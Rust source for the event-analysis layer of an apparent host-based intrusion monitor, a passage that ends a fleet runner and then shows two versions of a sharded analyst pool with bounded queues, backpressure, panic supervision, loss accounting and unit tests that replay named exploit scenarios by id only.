    let mut session = hth_core::Session::new(config)?;
    let start = (scenario.setup)(&mut session);
    let tap_pool = Arc::clone(pool);
    let buffer: Arc<Mutex<Vec<harrier::SecpertEvent>>> =
        Arc::new(Mutex::new(Vec::with_capacity(batch_size.max(1))));
    if batch_size <= 1 {
        session.set_event_tap(Box::new(move |event| tap_pool.submit(sid, event.clone())));
    } else {
        let tap_buffer = Arc::clone(&buffer);
        session.set_event_tap(Box::new(move |event| {
            let mut buf = tap_buffer.lock().unwrap_or_else(PoisonError::into_inner);
            buf.push(event.clone());
            if buf.len() >= batch_size {
                tap_pool.submit_batch(sid, &mut buf);
            }
        }));
    }
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env)?;
    session.run()?;
    let stats = session.taint_stats();
    drop(session);
    let mut buf = buffer.lock().unwrap_or_else(PoisonError::into_inner);
    pool.submit_batch(sid, &mut buf);
    Ok(stats)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn report_rendering_and_rates() {
        let mut report = FleetReport {
            sessions: 2,
            events: 100,
            elapsed: Duration::from_millis(500),
            ..FleetReport::default()
        };
        report.warning_counts.insert((Severity::High, "check_execve".into()), 3);
        assert_eq!(report.events_per_sec(), 200.0);
        assert_eq!(report.warnings(), 3);
        let text = report.render();
        assert!(text.contains("2 sessions"), "{text}");
        assert!(text.contains("3x [HIGH] check_execve"), "{text}");
    }

    #[test]
    fn small_fleet_runs_scenarios() {
        let scenarios: Vec<Scenario> = hth_workloads::exploits::scenarios()
            .into_iter()
            .filter(|s| s.id == "ElmExploit" || s.id == "grabem")
            .collect();
        let config = FleetConfig {
            pool: PoolConfig { shards: 2, ..PoolConfig::default() },
            workers: 2,
            ..FleetConfig::default()
        };
        let report = run_scenarios(scenarios, &config).expect("policy loads");
        assert_eq!(report.sessions, 2);
        assert!(report.session_errors.is_empty(), "{:?}", report.session_errors);
        assert!(report.taint_stats.interned_sets >= 1, "sessions' taint stats reach the report");
        let metrics = report.metrics();
        assert_eq!(metrics.counter("hth_fleet_sessions"), 2);
        assert_eq!(metrics.counter("hth_pool_events"), report.events);
        assert!(report.analyst_errors.is_empty(), "{:?}", report.analyst_errors);
        // Both exploits produce exactly one High warning each.
        let highs: usize = report
            .warning_counts
            .iter()
            .filter(|((sev, _), _)| *sev == Severity::High)
            .map(|(_, count)| count)
            .sum();
        assert_eq!(highs, 2, "{:?}", report.warning_counts);
    }
}
