//! The sharded analyst pool: N worker threads, each owning a private
//! [`Secpert`] engine, fed through bounded per-shard queues.
//!
//! Sessions are hashed to shards, so every event of one session is
//! analysed by the same engine in submission order — the property the
//! per-session warning sequence depends on — while different sessions
//! scale across engines. Queues are bounded; what happens at the bound
//! is an explicit [`Backpressure`] policy:
//!
//! * [`Backpressure::Block`] — the submitting thread waits (lossless,
//!   the default; monitoring throttles to analysis speed, paper §6.1.2's
//!   synchronous protocol generalised),
//! * [`Backpressure::DropOldest`] — the oldest queued event is evicted
//!   and counted (lossy, bounded latency; drop counters surface in
//!   [`ShardStats`]).

use std::collections::VecDeque;
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;

use harrier::SecpertEvent;
use hth_core::{PolicyConfig, Secpert, Warning};
use secpert_engine::EngineError;

/// Identifies one monitored session within a fleet (used only for shard
/// routing and reporting; the kernel-level pid lives inside the event).
pub type SessionId = u64;

/// What `submit` does when a shard queue is full.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Backpressure {
    /// Block the submitter until the analyst drains a slot (lossless).
    #[default]
    Block,
    /// Evict the oldest queued event and count the drop (lossy).
    DropOldest,
}

/// Pool sizing and backpressure policy.
#[derive(Clone, Debug)]
pub struct PoolConfig {
    /// Number of analyst shards (worker threads / Secpert engines).
    pub shards: usize,
    /// Per-shard queue bound, in events.
    pub queue_capacity: usize,
    /// Policy when a queue is full.
    pub backpressure: Backpressure,
}

impl Default for PoolConfig {
    fn default() -> PoolConfig {
        PoolConfig { shards: 4, queue_capacity: 1024, backpressure: Backpressure::Block }
    }
}

/// Per-shard counters, surfaced in the final report.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShardStats {
    /// Events analysed by this shard.
    pub events: u64,
    /// Events evicted under [`Backpressure::DropOldest`].
    pub dropped: u64,
    /// Queue-depth high-water mark.
    pub high_water: usize,
    /// Warnings this shard's engine issued.
    pub warnings: usize,
}

/// Everything a drained pool knows.
#[derive(Debug, Default)]
pub struct PoolReport {
    /// All warnings, grouped by shard in shard order (within a shard:
    /// analysis order).
    pub warnings: Vec<Warning>,
    /// Total events analysed.
    pub events: u64,
    /// Per-shard counters.
    pub shards: Vec<ShardStats>,
    /// Engine failures (rule bugs); events after a shard's first failure
    /// are drained unanalysed.
    pub errors: Vec<String>,
}

struct QueueState {
    deque: VecDeque<SecpertEvent>,
    closed: bool,
    dropped: u64,
    high_water: usize,
}

struct ShardQueue {
    state: Mutex<QueueState>,
    not_empty: Condvar,
    not_full: Condvar,
}

struct ShardOutcome {
    warnings: Vec<Warning>,
    events: u64,
    error: Option<String>,
}

/// The pool: construct, `submit` events, then `finish` to drain and
/// join. Submission is `&self`, so the pool can be shared across
/// monitoring threads behind an [`Arc`].
pub struct AnalystPool {
    queues: Vec<Arc<ShardQueue>>,
    workers: Vec<JoinHandle<ShardOutcome>>,
    capacity: usize,
    backpressure: Backpressure,
}

impl AnalystPool {
    /// Builds the pool: one [`Secpert`] per shard (constructed up front,
    /// so policy errors surface here, not in a worker), one worker
    /// thread per shard.
    ///
    /// # Errors
    ///
    /// Propagates policy-load failures from any shard's engine.
    ///
    /// # Panics
    ///
    /// Panics if `config.shards` or `config.queue_capacity` is zero.
    pub fn new(config: &PoolConfig, policy: &PolicyConfig) -> Result<AnalystPool, EngineError> {
        assert!(config.shards > 0, "a pool needs at least one shard");
        assert!(config.queue_capacity > 0, "queue capacity must be non-zero");
        let mut engines = Vec::with_capacity(config.shards);
        for _ in 0..config.shards {
            engines.push(Secpert::new(policy)?);
        }
        let queues: Vec<Arc<ShardQueue>> = (0..config.shards)
            .map(|_| {
                Arc::new(ShardQueue {
                    state: Mutex::new(QueueState {
                        deque: VecDeque::new(),
                        closed: false,
                        dropped: 0,
                        high_water: 0,
                    }),
                    not_empty: Condvar::new(),
                    not_full: Condvar::new(),
                })
            })
            .collect();
        let workers = engines
            .into_iter()
            .zip(&queues)
            .map(|(engine, queue)| {
                let queue = Arc::clone(queue);
                std::thread::spawn(move || analyst_loop(engine, &queue))
            })
            .collect();
        Ok(AnalystPool {
            queues,
            workers,
            capacity: config.queue_capacity,
            backpressure: config.backpressure,
        })
    }

    /// Number of shards.
    pub fn shards(&self) -> usize {
        self.queues.len()
    }

    /// The shard a session's events are routed to (Fibonacci hashing on
    /// the session id, stable for the life of the pool).
    pub fn shard_of(&self, session: SessionId) -> usize {
        (session.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32) as usize % self.queues.len()
    }

    /// Enqueues one event for the session's shard, applying the
    /// configured backpressure policy if that queue is full.
    pub fn submit(&self, session: SessionId, event: SecpertEvent) {
        let queue = &self.queues[self.shard_of(session)];
        let mut state = queue.state.lock().expect("shard queue poisoned");
        debug_assert!(!state.closed, "submit after finish");
        if state.deque.len() >= self.capacity {
            match self.backpressure {
                Backpressure::Block => {
                    while state.deque.len() >= self.capacity && !state.closed {
                        state = queue.not_full.wait(state).expect("shard queue poisoned");
                    }
                }
                Backpressure::DropOldest => {
                    state.deque.pop_front();
                    state.dropped += 1;
                }
            }
        }
        state.deque.push_back(event);
        state.high_water = state.high_water.max(state.deque.len());
        drop(state);
        queue.not_empty.notify_one();
    }

    /// Closes every queue, waits for the analysts to drain them, and
    /// aggregates the outcome.
    pub fn finish(self) -> PoolReport {
        for queue in &self.queues {
            queue.state.lock().expect("shard queue poisoned").closed = true;
            queue.not_empty.notify_all();
            queue.not_full.notify_all();
        }
        let mut report = PoolReport::default();
        for (queue, worker) in self.queues.iter().zip(self.workers) {
            let outcome = worker.join().expect("analyst thread panicked");
            let state = queue.state.lock().expect("shard queue poisoned");
            report.events += outcome.events;
            report.shards.push(ShardStats {
                events: outcome.events,
                dropped: state.dropped,
                high_water: state.high_water,
                warnings: outcome.warnings.len(),
            });
            if let Some(error) = outcome.error {
                report.errors.push(error);
            }
            report.warnings.extend(outcome.warnings);
        }
        report
    }
}

/// One analyst: pop events in order, feed the private engine. After the
/// first engine error the shard keeps draining (so `Block` submitters
/// never deadlock) but stops analysing.
fn analyst_loop(mut engine: Secpert, queue: &ShardQueue) -> ShardOutcome {
    let mut outcome = ShardOutcome { warnings: Vec::new(), events: 0, error: None };
    loop {
        let event = {
            let mut state = queue.state.lock().expect("shard queue poisoned");
            loop {
                if let Some(event) = state.deque.pop_front() {
                    break event;
                }
                if state.closed {
                    return outcome;
                }
                state = queue.not_empty.wait(state).expect("shard queue poisoned");
            }
        };
        queue.not_full.notify_one();
        if outcome.error.is_none() {
            match engine.process_event(&event) {
                Ok(warnings) => {
                    outcome.events += 1;
                    outcome.warnings.extend(warnings);
                }
                Err(e) => outcome.error = Some(e.to_string()),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use harrier::{Origin, ResourceType, SourceInfo};

    fn _assert_send<T: Send>() {}
    #[allow(dead_code)]
    fn engines_cross_threads() {
        // The pool moves Secpert engines into worker threads; this
        // fails to compile if the engine ever stops being Send.
        _assert_send::<Secpert>();
    }

    fn dropper_event(i: u64) -> SecpertEvent {
        SecpertEvent::ResourceAccess {
            pid: 1,
            syscall: "SYS_execve",
            resource: SourceInfo::new(ResourceType::File, "/bin/ls"),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/x")] },
            time: i,
            frequency: 5,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        }
    }

    #[test]
    fn pool_analyses_and_warns() {
        let pool =
            AnalystPool::new(&PoolConfig::default(), &PolicyConfig::default()).expect("policy");
        for session in 0..8u64 {
            for i in 0..3 {
                pool.submit(session, dropper_event(i));
            }
        }
        let report = pool.finish();
        assert_eq!(report.events, 24);
        assert_eq!(report.warnings.len(), 24, "every hardcoded execve warns Low");
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        assert_eq!(report.shards.len(), 4);
        assert_eq!(report.shards.iter().map(|s| s.events).sum::<u64>(), 24);
    }

    #[test]
    fn same_session_same_shard() {
        let pool =
            AnalystPool::new(&PoolConfig::default(), &PolicyConfig::default()).expect("policy");
        for session in 0..100 {
            let shard = pool.shard_of(session);
            assert_eq!(shard, pool.shard_of(session), "routing must be stable");
            assert!(shard < pool.shards());
        }
        pool.finish();
    }

    #[test]
    fn drop_oldest_counts_evictions() {
        let config =
            PoolConfig { shards: 1, queue_capacity: 2, backpressure: Backpressure::DropOldest };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy");
        // Stall the analyst? No need: submit faster than one engine can
        // possibly drain by flooding in a tight loop; with capacity 2 at
        // least some of 500 submissions must evict.
        for i in 0..500 {
            pool.submit(0, dropper_event(i));
        }
        let report = pool.finish();
        let stats = &report.shards[0];
        assert_eq!(stats.events + stats.dropped, 500, "analysed + dropped = submitted");
        assert!(stats.high_water <= 2, "bounded queue respected: {}", stats.high_water);
    }
}
