//! The sharded analyst pool: N worker threads, each owning a private
//! [`Secpert`] engine, fed through bounded per-shard queues — and
//! supervised, because a production analyst must outlive a misbehaving
//! event.
//!
//! Sessions are hashed to shards, so every event of one session is
//! analysed by the same engine in submission order — the property the
//! per-session warning sequence depends on — while different sessions
//! scale across engines. Queues are bounded; what happens at the bound
//! is an explicit [`Backpressure`] policy:
//!
//! * [`Backpressure::Block`] — the submitting thread waits (lossless,
//!   the default; monitoring throttles to analysis speed, paper §6.1.2's
//!   synchronous protocol generalised),
//! * [`Backpressure::DropOldest`] — the oldest queued event is evicted
//!   and counted (lossy, bounded latency; drop counters surface in
//!   [`ShardStats`]).
//!
//! Supervision: a panic inside the engine (or injected by a
//! [`FaultPlan`]) is caught with `catch_unwind`, the offending event is
//! *quarantined* (counted, described, optionally kept), and the shard
//! respawns a fresh `Secpert` — up to [`PoolConfig::max_respawns`]
//! times. Past the budget the shard degrades to drain-and-discard so
//! blocked submitters can never deadlock on a dead analyst. Every loss
//! path has a counter: `submitted == analysed + dropped + quarantined
//! + discarded` holds for every shard, always.

use std::collections::{BTreeMap, VecDeque};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::{Arc, Condvar, Mutex, MutexGuard, PoisonError};
use std::thread::JoinHandle;

use harrier::SecpertEvent;
use hth_core::{DigestBuilder, PolicyConfig, Secpert, SessionDigest, Warning};
use hth_trace::{
    BundleRing, DiagLevel, DiagnosticBundle, FlightEntryArgs, FlightRecorder, MetricsSnapshot,
    Trigger,
};
use secpert_engine::{EngineError, MatchStats};

use crate::digest_wire::{read_digest_stream, write_digest_stream};
use crate::faults::FaultPlan;

/// Identifies one monitored session within a fleet (used only for shard
/// routing and reporting; the kernel-level pid lives inside the event).
pub type SessionId = u64;

/// What `submit` does when a shard queue is full.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Backpressure {
    /// Block the submitter until the analyst drains a slot (lossless).
    #[default]
    Block,
    /// Evict the oldest queued event and count the drop (lossy).
    DropOldest,
}

/// Pool sizing, backpressure and supervision policy.
#[derive(Clone, Debug)]
pub struct PoolConfig {
    /// Number of analyst shards (worker threads / Secpert engines).
    pub shards: usize,
    /// Per-shard queue bound, in events.
    pub queue_capacity: usize,
    /// Policy when a queue is full.
    pub backpressure: Backpressure,
    /// Events an analyst drains per queue-lock crossing and feeds the
    /// engine per batch. `1` reproduces the per-event pipeline exactly;
    /// larger batches amortize the queue, span and warning-sink
    /// crossings without changing observable results (pinned by
    /// `tests/batch_equivalence.rs`).
    pub batch_size: usize,
    /// How many times a shard may respawn a fresh engine after a panic
    /// before degrading to drain-and-discard.
    pub max_respawns: u32,
    /// Deterministic fault injection (chaos testing); `None` in
    /// production.
    pub faults: Option<Arc<FaultPlan>>,
    /// Keep every lost event (dropped, quarantined, discarded) in the
    /// final report — exact loss accounting for tests; off by default
    /// because it is unbounded memory under sustained loss.
    pub keep_lost_events: bool,
    /// Per-shard flight-recorder ring capacity: each analyst keeps this
    /// many recent events for diagnostic bundles, always on (the
    /// pipeline bench gates its overhead at ≤2%). `0` disables the
    /// recorder entirely — that exists for the bench's baseline
    /// measurement, not for production.
    pub flight_capacity: usize,
    /// Watchdog: a drained batch whose processing exceeds this deadline
    /// captures a [`Trigger::Watchdog`] diagnostic bundle (requires a
    /// non-zero `flight_capacity`). `None` = off.
    pub batch_deadline: Option<std::time::Duration>,
    /// Retention ring for captured diagnostic bundles; share one to see
    /// several pools in one place (a serving layer's bundle index). A
    /// private ring is created when unset.
    pub bundles: Option<Arc<BundleRing>>,
}

impl Default for PoolConfig {
    fn default() -> PoolConfig {
        PoolConfig {
            shards: 4,
            queue_capacity: 1024,
            backpressure: Backpressure::Block,
            batch_size: 64,
            max_respawns: 3,
            faults: None,
            keep_lost_events: false,
            flight_capacity: hth_trace::DEFAULT_FLIGHT_CAPACITY,
            batch_deadline: None,
            bundles: None,
        }
    }
}

/// Per-shard counters, surfaced in the final report. Invariant:
/// `submitted == events + dropped + quarantined + discarded`.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShardStats {
    /// Events routed to this shard.
    pub submitted: u64,
    /// Events analysed by this shard.
    pub events: u64,
    /// Events evicted under [`Backpressure::DropOldest`].
    pub dropped: u64,
    /// Events quarantined after panicking the engine.
    pub quarantined: u64,
    /// Events drained unanalysed after the shard failed (engine error,
    /// respawn budget exhausted, or respawn failure).
    pub discarded: u64,
    /// Fresh engines spawned after panics.
    pub respawns: u32,
    /// Queue-depth high-water mark.
    pub high_water: usize,
    /// Warnings this shard's engine issued.
    pub warnings: usize,
    /// Match-network counters, merged across this shard's engines
    /// (respawns replace the engine; each one's work is accumulated
    /// before it is dropped).
    pub match_stats: MatchStats,
}

impl ShardStats {
    /// Events that never reached an analysis: dropped + quarantined +
    /// discarded.
    pub fn lost(&self) -> u64 {
        self.dropped + self.quarantined + self.discarded
    }
}

/// Everything a drained pool knows.
#[derive(Debug, Default)]
pub struct PoolReport {
    /// All warnings, grouped by shard in shard order (within a shard:
    /// analysis order).
    pub warnings: Vec<Warning>,
    /// Total events submitted across all shards.
    pub submitted: u64,
    /// Total events analysed.
    pub events: u64,
    /// Total events evicted under [`Backpressure::DropOldest`].
    pub dropped: u64,
    /// Total events quarantined after engine panics.
    pub quarantined: u64,
    /// Total events drained unanalysed by failed shards.
    pub discarded: u64,
    /// Fresh engines spawned after panics, across all shards.
    pub respawns: u32,
    /// Per-shard counters.
    pub shards: Vec<ShardStats>,
    /// Shard failures: engine errors, panic descriptions past the
    /// respawn budget, respawn failures, worker-thread losses.
    pub errors: Vec<String>,
    /// One line per quarantined event: which shard, which event, what
    /// the panic said.
    pub quarantine_log: Vec<String>,
    /// The lost events themselves (with the session they belonged to),
    /// when [`PoolConfig::keep_lost_events`] was set (dropped +
    /// quarantined + discarded, in no particular global order).
    pub lost_events: Vec<(SessionId, SecpertEvent)>,
    /// Match-network counters aggregated across all shards.
    pub match_stats: MatchStats,
    /// One digest per session, in session order: what each shard's
    /// analyst actually observed, shipped over the digest wire codec
    /// and merged here. Labels registered via
    /// [`AnalystPool::set_label`] are applied; unlabelled sessions keep
    /// an empty label (the correlator renders them `session-<id>`).
    pub digests: Vec<SessionDigest>,
    /// Diagnostic bundles captured during the run (quarantines,
    /// watchdog overruns), in shard order, also retained in the pool's
    /// [`BundleRing`].
    pub bundles: Vec<Arc<DiagnosticBundle>>,
}

impl PoolReport {
    /// Total events that never reached an analysis.
    pub fn lost(&self) -> u64 {
        self.dropped + self.quarantined + self.discarded
    }
}

struct QueueState {
    deque: VecDeque<(SessionId, SecpertEvent)>,
    closed: bool,
    submitted: u64,
    dropped: u64,
    high_water: usize,
    /// Evicted events, kept only under `keep_lost_events`.
    evicted: Vec<(SessionId, SecpertEvent)>,
}

struct ShardQueue {
    state: Mutex<QueueState>,
    not_empty: Condvar,
    not_full: Condvar,
}

/// Mutex poisoning cannot corrupt the queue invariants (no code path
/// panics while holding the lock with the state half-updated), so a
/// poisoned lock is recovered rather than propagated — the total error
/// path the pool's report depends on.
fn lock_state(queue: &ShardQueue) -> MutexGuard<'_, QueueState> {
    queue.state.lock().unwrap_or_else(PoisonError::into_inner)
}

#[derive(Default)]
struct ShardOutcome {
    warnings: Vec<Warning>,
    events: u64,
    quarantined: u64,
    discarded: u64,
    respawns: u32,
    errors: Vec<String>,
    quarantine_log: Vec<String>,
    lost_events: Vec<(SessionId, SecpertEvent)>,
    match_stats: MatchStats,
    /// Digest builders for the sessions this shard analysed; serialised
    /// into `digest_stream` when the shard drains.
    digests: BTreeMap<SessionId, DigestBuilder>,
    /// The shard's digests as a wire stream (header + CRC frames) —
    /// the same bytes a remote shard would ship to a correlator.
    digest_stream: Vec<u8>,
    /// Diagnostic bundles this shard captured (quarantine, watchdog).
    bundles: Vec<DiagnosticBundle>,
}

impl ShardOutcome {
    fn digest(&mut self, session: SessionId) -> &mut DigestBuilder {
        self.digests.entry(session).or_insert_with(|| DigestBuilder::new(session, ""))
    }
}

/// The pool: construct, `submit` events, then `finish` to drain and
/// join. Submission is `&self`, so the pool can be shared across
/// monitoring threads behind an [`Arc`].
pub struct AnalystPool {
    queues: Vec<Arc<ShardQueue>>,
    workers: Vec<JoinHandle<ShardOutcome>>,
    capacity: usize,
    backpressure: Backpressure,
    keep_lost_events: bool,
    /// Program labels for the final digests, registered by whoever
    /// knows what a session *is* (the fleet runner's scenario id, a
    /// serve client's hello). Workers never read this — labels are
    /// applied when the digests are merged in [`AnalystPool::finish`].
    labels: Mutex<BTreeMap<SessionId, String>>,
    /// Where captured diagnostic bundles are retained.
    bundles: Arc<BundleRing>,
}

impl AnalystPool {
    /// Builds the pool: one [`Secpert`] per shard (constructed up front,
    /// so policy errors surface here, not in a worker), one worker
    /// thread per shard.
    ///
    /// # Errors
    ///
    /// Propagates policy-load failures from any shard's engine.
    ///
    /// # Panics
    ///
    /// Panics if `config.shards` or `config.queue_capacity` is zero.
    pub fn new(config: &PoolConfig, policy: &PolicyConfig) -> Result<AnalystPool, EngineError> {
        assert!(config.shards > 0, "a pool needs at least one shard");
        assert!(config.queue_capacity > 0, "queue capacity must be non-zero");
        assert!(config.batch_size > 0, "batch size must be non-zero");
        let mut engines = Vec::with_capacity(config.shards);
        for _ in 0..config.shards {
            engines.push(Secpert::new(policy)?);
        }
        let queues: Vec<Arc<ShardQueue>> = (0..config.shards)
            .map(|_| {
                Arc::new(ShardQueue {
                    state: Mutex::new(QueueState {
                        deque: VecDeque::new(),
                        closed: false,
                        submitted: 0,
                        dropped: 0,
                        high_water: 0,
                        evicted: Vec::new(),
                    }),
                    not_empty: Condvar::new(),
                    not_full: Condvar::new(),
                })
            })
            .collect();
        let workers = engines
            .into_iter()
            .zip(&queues)
            .enumerate()
            .map(|(shard, (engine, queue))| {
                let queue = Arc::clone(queue);
                let batch_size = config.batch_size;
                let supervisor = Supervisor {
                    shard,
                    policy: policy.clone(),
                    faults: config.faults.clone(),
                    max_respawns: config.max_respawns,
                    keep_lost_events: config.keep_lost_events,
                    flight: (config.flight_capacity > 0)
                        .then(|| FlightRecorder::new(config.flight_capacity)),
                    batch_deadline: config.batch_deadline,
                };
                std::thread::spawn(move || analyst_loop(engine, &queue, supervisor, batch_size))
            })
            .collect();
        Ok(AnalystPool {
            queues,
            workers,
            capacity: config.queue_capacity,
            backpressure: config.backpressure,
            keep_lost_events: config.keep_lost_events,
            labels: Mutex::new(BTreeMap::new()),
            bundles: config.bundles.clone().unwrap_or_default(),
        })
    }

    /// The retention ring captured diagnostic bundles land in.
    pub fn bundle_ring(&self) -> &Arc<BundleRing> {
        &self.bundles
    }

    /// Number of shards.
    pub fn shards(&self) -> usize {
        self.queues.len()
    }

    /// Registers the program label a session's digest will carry (the
    /// correlator's "distinct programs" dimension). Idempotent; last
    /// writer wins.
    pub fn set_label(&self, session: SessionId, label: &str) {
        self.labels
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .insert(session, label.to_string());
    }

    /// The shard a session's events are routed to (Fibonacci hashing on
    /// the session id, stable for the life of the pool).
    pub fn shard_of(&self, session: SessionId) -> usize {
        (session.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32) as usize % self.queues.len()
    }

    /// Enqueues one event for the session's shard, applying the
    /// configured backpressure policy if that queue is full. Total: a
    /// panicked or degraded analyst keeps draining its queue, so this
    /// never deadlocks and never panics.
    pub fn submit(&self, session: SessionId, event: SecpertEvent) {
        let queue = &self.queues[self.shard_of(session)];
        let mut state = lock_state(queue);
        debug_assert!(!state.closed, "submit after finish");
        state.submitted += 1;
        if state.deque.len() >= self.capacity {
            match self.backpressure {
                Backpressure::Block => {
                    while state.deque.len() >= self.capacity && !state.closed {
                        state = queue.not_full.wait(state).unwrap_or_else(PoisonError::into_inner);
                    }
                }
                Backpressure::DropOldest => {
                    if let Some(evicted) = state.deque.pop_front() {
                        state.dropped += 1;
                        if self.keep_lost_events {
                            state.evicted.push(evicted);
                        }
                    }
                }
            }
        }
        state.deque.push_back((session, event));
        state.high_water = state.high_water.max(state.deque.len());
        drop(state);
        queue.not_empty.notify_one();
    }

    /// Enqueues a buffer of events for the session's shard under a
    /// single lock crossing, preserving submission order and applying
    /// the backpressure policy per event — byte-identical outcomes to
    /// the same events submitted one [`AnalystPool::submit`] at a time.
    /// Drains `events`, leaving the buffer empty (capacity retained)
    /// for reuse.
    pub fn submit_batch(&self, session: SessionId, events: &mut Vec<SecpertEvent>) {
        if events.is_empty() {
            return;
        }
        let queue = &self.queues[self.shard_of(session)];
        let mut state = lock_state(queue);
        debug_assert!(!state.closed, "submit after finish");
        for event in events.drain(..) {
            state.submitted += 1;
            if state.deque.len() >= self.capacity {
                match self.backpressure {
                    Backpressure::Block => {
                        while state.deque.len() >= self.capacity && !state.closed {
                            // The analyst may have gone to sleep before
                            // this batch arrived; wake it before parking,
                            // or both sides wait forever.
                            queue.not_empty.notify_one();
                            state =
                                queue.not_full.wait(state).unwrap_or_else(PoisonError::into_inner);
                        }
                    }
                    Backpressure::DropOldest => {
                        if let Some(evicted) = state.deque.pop_front() {
                            state.dropped += 1;
                            if self.keep_lost_events {
                                state.evicted.push(evicted);
                            }
                        }
                    }
                }
            }
            state.deque.push_back((session, event));
            state.high_water = state.high_water.max(state.deque.len());
        }
        drop(state);
        queue.not_empty.notify_one();
    }

    /// Closes every queue, waits for the analysts to drain them, and
    /// aggregates the outcome. Total: worker panics (which `catch_unwind`
    /// should make impossible) are reported as errors, not propagated.
    pub fn finish(self) -> PoolReport {
        for queue in &self.queues {
            lock_state(queue).closed = true;
            queue.not_empty.notify_all();
            queue.not_full.notify_all();
        }
        let mut report = PoolReport::default();
        let mut digests: BTreeMap<SessionId, SessionDigest> = BTreeMap::new();
        for (shard, (queue, worker)) in self.queues.iter().zip(self.workers).enumerate() {
            let outcome = worker.join().unwrap_or_else(|panic| {
                let mut outcome = ShardOutcome::default();
                outcome
                    .errors
                    .push(format!("shard {shard}: worker lost ({})", describe_panic(&*panic)));
                outcome
            });
            let mut state = lock_state(queue);
            // A lost worker leaves its queue undrained; account the
            // leftovers as discarded so the submit invariant holds.
            let leftovers = state.deque.len() as u64;
            let leftover_events: Vec<(SessionId, SecpertEvent)> = state.deque.drain(..).collect();
            let evicted = std::mem::take(&mut state.evicted);
            let stats = ShardStats {
                submitted: state.submitted,
                events: outcome.events,
                dropped: state.dropped,
                quarantined: outcome.quarantined,
                discarded: outcome.discarded + leftovers,
                respawns: outcome.respawns,
                high_water: state.high_water,
                warnings: outcome.warnings.len(),
                match_stats: outcome.match_stats,
            };
            drop(state);
            report.submitted += stats.submitted;
            report.events += stats.events;
            report.dropped += stats.dropped;
            report.quarantined += stats.quarantined;
            report.discarded += stats.discarded;
            report.respawns += stats.respawns;
            report.match_stats.merge(&stats.match_stats);
            report.shards.push(stats);
            report.errors.extend(outcome.errors);
            report.quarantine_log.extend(outcome.quarantine_log);
            if self.keep_lost_events {
                report.lost_events.extend(evicted);
                report.lost_events.extend(outcome.lost_events);
                report.lost_events.extend(leftover_events);
            }
            report.warnings.extend(outcome.warnings);
            for bundle in outcome.bundles {
                report.bundles.push(self.bundles.push(bundle));
            }
            // Decode the shard's digest stream exactly as a remote
            // correlator would. A shard whose stream fails to decode is
            // a codec bug, not an event-loss path: report it loudly.
            match read_digest_stream(&outcome.digest_stream) {
                Ok(decoded) => {
                    for digest in decoded {
                        match digests.get_mut(&digest.session) {
                            Some(existing) => existing.merge(&digest),
                            None => {
                                digests.insert(digest.session, digest);
                            }
                        }
                    }
                }
                Err(e) => {
                    if !outcome.digest_stream.is_empty() {
                        report.errors.push(format!("shard {shard}: digest stream corrupt: {e}"));
                    }
                }
            }
        }
        let labels = self.labels.lock().unwrap_or_else(PoisonError::into_inner);
        for (session, digest) in &mut digests {
            if let Some(label) = labels.get(session) {
                digest.label = label.clone();
            }
        }
        report.digests = digests.into_values().collect();
        report
    }
}

fn describe_panic(panic: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = panic.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = panic.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

struct Supervisor {
    shard: usize,
    policy: PolicyConfig,
    faults: Option<Arc<FaultPlan>>,
    max_respawns: u32,
    keep_lost_events: bool,
    /// Always-on per-shard flight recorder (`None` only when
    /// `PoolConfig::flight_capacity` is 0 — the bench baseline).
    flight: Option<FlightRecorder>,
    batch_deadline: Option<std::time::Duration>,
}

enum Analyst {
    /// Healthy: events go through the engine.
    Running(Box<Secpert>),
    /// Degraded: events are drained and discarded (engine error, respawn
    /// budget exhausted, or respawn failure) so submitters never block
    /// on a dead shard.
    Failed,
}

/// One analyst worker: drain up to `batch_size` events per queue-lock
/// crossing, feed the private engine in runs under a panic supervisor.
/// Runs until the queue is closed *and* empty — even a failed shard
/// keeps draining, which is what makes `Backpressure::Block`
/// deadlock-free.
fn analyst_loop(
    engine: Secpert,
    queue: &ShardQueue,
    supervisor: Supervisor,
    batch_size: usize,
) -> ShardOutcome {
    let _span = hth_trace::span("pool.analyst");
    let mut outcome = ShardOutcome::default();
    let mut analyst = Analyst::Running(Box::new(engine));
    let mut nth = 0u64;
    let batch_size = batch_size.max(1);
    // The reusable drain buffers: struct-of-arrays so the engine still
    // sees a contiguous `&[SecpertEvent]` run while every slot keeps
    // its session id for digest attribution. One allocation for the
    // life of the shard, refilled on every queue crossing.
    let mut sids: Vec<SessionId> = Vec::with_capacity(batch_size);
    let mut batch: Vec<SecpertEvent> = Vec::with_capacity(batch_size);
    loop {
        sids.clear();
        batch.clear();
        {
            let mut state = lock_state(queue);
            loop {
                if !state.deque.is_empty() {
                    let n = batch_size.min(state.deque.len());
                    for (sid, event) in state.deque.drain(..n) {
                        sids.push(sid);
                        batch.push(event);
                    }
                    break;
                }
                if state.closed {
                    break;
                }
                state = queue.not_empty.wait(state).unwrap_or_else(PoisonError::into_inner);
            }
        }
        if batch.is_empty() {
            // Closed and drained: fold the live engine's match counters
            // into the outcome before the engine is dropped, then ship
            // the shard's digests as one wire stream.
            if let Analyst::Running(engine) = &analyst {
                outcome.match_stats.merge(&engine.match_stats());
            }
            let digests: Vec<SessionDigest> = std::mem::take(&mut outcome.digests)
                .into_values()
                .map(DigestBuilder::finish)
                .collect();
